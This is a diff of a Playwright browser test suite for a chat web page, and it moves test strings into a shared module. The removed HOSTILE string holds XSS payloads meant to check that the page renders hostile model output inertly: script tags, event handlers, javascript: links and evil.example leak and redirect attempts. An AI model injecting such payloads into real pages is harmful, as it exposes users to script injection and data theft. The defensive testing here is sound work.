@@ -1,5 +1,7 @@
-"""The server's page in headless Chromium: against a server of a tiny model, and against scripted answers, which
-can be what no model would write. Tests of the page's look are slow; they leave screenshots where SCREENSHOTS says."""
+"""The server's page in headless Chromium: against a server of a tiny model, and against scripted answers,
+which can be what no model would write.
+
+SCREENSHOTS=FOLDER leaves pictures; the slow tests have those of all widths and colors."""
 
 import base64
 import hashlib
@@ -17,6 +19,7 @@ import bonsai_jax as bj
 from bonsai_jax.engine import runner as running
 from bonsai_jax.server import routes_page
 from tests.bonsai_jax.command_line import TINY
+from tests.bonsai_jax.page_texts import BLOCKS, HOSTILE, INLINE, MARKDOWN, RICH
 from tests.bonsai_jax.serving import serving
 
 pytest.importorskip("playwright", reason="the package playwright is not installed")
@@ -48,8 +51,8 @@ def browser():
 
 @pytest.fixture
 def opened(server, browser):
-    """A function that opens the page in a profile of its own. At the end nothing may have gone wrong in it, and
-    no other server may have been asked."""
+    """A function that opens the page in a profile of its own. At the end nothing may have gone wrong in it,
+    and it may have asked no other server."""
     contexts, pages, asked = [], [], []
 
     def open_page(key: str | None = KEY, width: int = 1440, context=None, **options) -> Page:
@@ -138,7 +141,7 @@ def test_every_part_of_the_page_is_in_it_and_small():
 
 @browses
 def test_a_conversation(server, opened):
-    """The key, answers as the API gives them, cache hits, another try, an edit, and all of it after a reload."""
+    """The key, answers as the API gives them, cache hits, another try, a reload, an edit."""
     page = opened(key=None)
     expect(page.locator("#question")).to_be_visible()
     for key, text in (("wrong", "answers those who have a key"), (KEY, "does not know this key")):
@@ -155,10 +158,8 @@ def test_a_conversation(server, opened):
     messages = [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "Hi there"}]
     with server.openai(api_key=KEY) as client:
         answer = client.chat.completions.create(model="any", messages=messages, max_tokens=8, temperature=0)
-    page_text = page.evaluate(
-        f"JSON.parse(localStorage['bonsai-jax/conversation/' + location.hash.slice(1)]).messages[1].content"
-    )
-    assert page_text == answer.choices[0].message.content
+    stored = "localStorage['bonsai-jax/conversation/' + location.hash.slice(1)]"
+    assert page.evaluate(f"JSON.parse({stored}).messages[1].content") == answer.choices[0].message.content
 
     last(page, ".again").click()
     expect(last(page, ".stats")).to_contain_text(re.compile(r"prompt \d+, [1-9]\d* of it cached"))
@@ -348,34 +349,6 @@ def test_an_answer_goes_on_while_another_conversation_is_shown(opened):
 
 # Markdown.
 
-MARKDOWN = {
-    "a **b** *c* ~~d~~ `e` __f__ _g_": "<p>a <strong>b</strong> <em>c</em> <s>d</s> <code>e</code> <strong>f</strong> <em>g</em></p>",
-    "***a***": "<p><strong><em>a</em></strong></p>",
-    "**a *b* c**": "<p><strong>a <em>b</em> c</strong></p>",
-    "*a **b** c*": "<p><em>a <strong>b</strong> c</em></p>",
-    "2 * 3 * 4, snake_case_name, **not": "<p>2 * 3 * 4, snake_case_name, **not</p>",
-    r"\*a\* `\*` \(x\)": r"<p>*a* <code>\*</code> \(x\)</p>",
-    "``a ` b`` `` ` `` `c": "<p><code>a ` b</code> <code>`</code> `c</p>",
-    "**a `**` b**": "<p><strong>a <code>**</code> b</strong></p>",
-    "one\ntwo\n\nthree": "<p>one<br>two</p><p>three</p>",
-    "# A\n### B #\n####### C": "<h3>A</h3><h5>B</h5><p>####### C</p>",
-    "a\n***\nb": "<p>a</p><hr><p>b</p>",
-    "- a\n- b\n  - c\n\n- d": "<ul><li><p>a</p></li><li><p>b</p><ul><li><p>c</p></li></ul></li><li><p>d</p></li></ul>",
-    "3. a\n4. b": '<ol start="3"><li><p>a</p></li><li><p>b</p></li></ol>',
-    "1. a\n   more\n\n   b\n2. c": "<ol><li><p>a<br>more</p><p>b</p></li><li><p>c</p></li></ol>",
-    "> a\n> > b\n\nc": "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote><p>c</p>",
-    "<https://a.example/x> (see https://b.example/y_(z)).": '<p><a>https://a.example/x</a> (see <a>https://b.example/y_(z)</a>).</p>',
-    '[a *b*](https://c.example "t") ![d](https://e.example/f.png)': "<p><a>a <em>b</em></a> <a>d</a></p>",
-    "[https://a.example](https://b.example)": "<p><a>https://a.example</a></p>",
-    "[a](/v1/models) [b](#c) [d]": "<p>[a](/v1/models) [b](#c) [d]</p>",
-    "| a | `b|c` |\n|---|--:|\n| **d** | e\\|f |\n\ng": (
-        "<div><table><thead><tr><th>a</th><th><code>b|c</code></th></tr></thead>"
-        "<tbody><tr><td><strong>d</strong></td><td>e|f</td></tr></tbody></table></div><p>g</p>"
-    ),
-    "a | b\nc": "<p>a | b<br>c</p>",
-    "<b>a</b> &lt;": "<p>&lt;b&gt;a&lt;/b&gt; &amp;lt;</p>",
-}  # fmt: skip
-
 
 @browses
 def test_markdown(opened):
@@ -414,30 +387,6 @@ def test_code_is_copied(opened):
     expect(last(page, ".copy")).to_have_text("Copied")
 
 
-HOSTILE = """<script>pwned()</script><img src=x onerror="pwned()"><svg onload=pwned()>
-<a href="javascript:pwned()">a</a> <iframe srcdoc="<script>parent.pwned()</script>"></iframe>
-[a](javascript:pwned()) [b](JaVaScRiPt:pwned()) [c](java\tscript:pwned()) [d](data:text/html,<script>pwned()</script>)
-[e]( javascript:pwned()) <javascript:pwned()> [f](vbscript:x) [g](file:///etc/passwd) [h](blob:http://x/y)
-![i](javascript:pwned()) ![j](https://evil.example/leak.png?q=secret) [k](https://a.example" onclick="pwned()) **<b onclick=pwned()>**
-[l](https://a.example/'onmouseover='pwned()) [m](//evil.example) `<script>pwned()</script>`
-
-# <img src=x onerror=pwned()>
-
-- <img src=x onerror=pwned()>
-
-> <style>*{display:none}</style>
-
-| <img src=x onerror=pwned()> | b |
-|---|---|
-| <script>pwned()</script> | <base href=https://evil.example> |
-
-```"><script>pwned()</script>
-</code></pre><script>pwned()</script>
-```
-<form action=https://evil.example><button>Send</button></form><meta http-equiv=refresh content="0;url=https://evil.example">
-"""
-
-
 @browses
 def test_hostile_answers_are_inert(opened):
     """What a model writes, what a file that is imported holds, and what a server says of itself."""
@@ -458,7 +407,8 @@ def test_hostile_answers_are_inert(opened):
     upstream.fail(400, HOSTILE, param="<img onerror=pwned()>", code=HOSTILE)
     expect(page.locator(".failure")).to_contain_text("<script>")
     hostile = {"id": "x", "title": HOSTILE, "updated": 1, "settings": {"system": HOSTILE}, "messages": [
-        {"role": "user", "content": HOSTILE}, {"role": "assistant", "content": HOSTILE, "note": HOSTILE, "stats": {"tokens": HOSTILE}}
+        {"role": "user", "content": HOSTILE},
+        {"role": "assistant", "content": HOSTILE, "note": HOSTILE, "stats": {"tokens": HOSTILE}},
     ]}  # fmt: skip
     file = {"format": "bonsai-jax conversations", "version": 1, "conversations": [hostile]}
     page.set_input_files(
@@ -471,7 +421,8 @@ def test_hostile_answers_are_inert(opened):
     )
     assert not {*names} & {"script", "img", "iframe", "style", "base", "meta", "object", "embed", "b"}, names
     links = page.evaluate(
-        "[...document.querySelectorAll('main a')].map(a => [a.protocol, a.target, a.rel, a.getAttributeNames().join()])"
+        "[...document.querySelectorAll('main a')]"
+        ".map(a => [a.protocol, a.target, a.rel, a.getAttributeNames().join()])"
     )
     assert links and {tuple(link[1:]) for link in links} == {
         ("_blank", "noopener noreferrer nofollow", "href,title,target,rel")
@@ -485,24 +436,22 @@ def test_hostile_answers_are_inert(opened):
         button.click()
 
 
-ENDLESS = ("*a ", "**a*b_", "_a ", "[", "[a](", "[a](((", "`" , "` `` ", "> ", "- ", "  - a\n", "# ", "#", "| ", "|-", "http://", "<http://", "\\",
-           "~~", "![", "a\n", "a|b\n-|-\n", "\n", "1. ", "***", "```\n", "> - ")  # fmt: skip
-
-
 @browses
 @pytest.mark.parametrize(
-    ("length", "seconds"), [(20_000, 4), pytest.param(200_000, 20, marks=pytest.mark.slow)]
+    ("parts", "length", "seconds"),
+    [(INLINE, 60_000, 4), pytest.param((*INLINE, *BLOCKS), 200_000, 20, marks=pytest.mark.slow)],
+    ids=["inline", "all"],
 )
-def test_no_answer_holds_the_page_up(opened, length, seconds):
-    """Beginnings without ends. Text that is searched again and again would take minutes."""
+def test_no_answer_holds_the_page_up(opened, parts, length, seconds):
+    """Text that is searched again and again would take minutes."""
     page = opened()
     upstream = Upstream(page)
     took = {}
-    for count, part in enumerate(ENDLESS, 1):
+    for count, part in enumerate(parts, 1):
         say(page, "Go on")
         began = time.monotonic()
         upstream.answer(count, part * (length // len(part)))
-        expect(last(page, ".stats")).not_to_be_empty()
+        expect(last(page, ".stats")).not_to_be_empty(timeout=30_000)
         took[part] = time.monotonic() - began
         page.click("#new")
     assert max(took.values()) < seconds, took
@@ -569,8 +518,12 @@ def test_wrong_files_and_a_full_browser(opened, tmp_path):
         "was not exported by this page": "[]",
         "not an object": json.dumps(head | {"conversations": [1]}),
         "its id": json.dumps(head | {"conversations": [whole | {"id": "../x"}]}),
-        "neither the user's nor": json.dumps(head | {"conversations": [whole | {"messages": [{"role": "system"}]}]}),
-        "content of a message is not a text": json.dumps(head | {"conversations": [whole | {"messages": [{"role": "user", "content": 1}]}]}),
+        "neither the user's nor": json.dumps(
+            head | {"conversations": [whole | {"messages": [{"role": "system"}]}]}
+        ),
+        "content of a message is not a text": json.dumps(
+            head | {"conversations": [whole | {"messages": [{"role": "user", "content": 1}]}]}
+        ),
         "larger than 16 MB": " " * (2**24 + 1),
     }  # fmt: skip
     for words, text in wrong.items():
@@ -672,27 +625,6 @@ def test_colors_are_the_systems_until_the_user_chooses(opened):
     page.emulate_media(color_scheme="light")
     switch.click()
     assert page.evaluate(ground) == dark
-
-
-RICH = """A plan with **bold**, `code`, a [link](https://a.example) and a_very_long_word_""" + "x" * 200 + """
-
-## Steps
-
-1. Read
-   - one
-   - two
-
-> A quotation
-
-| format | bits | a long head of a column | another one |
-|:---|---:|:-:|---|
-| Q1_0 | 1.125 | a text that takes a lot of room | and more of it |
-
-```python
-def answer(model, text):  # a comment that is so long that this line must scroll, whatever the window's width is
-    return bj.generate(model, [text])[0].text
-```
-"""  # fmt: skip
 
 
 def rich(page: Page) -> None:
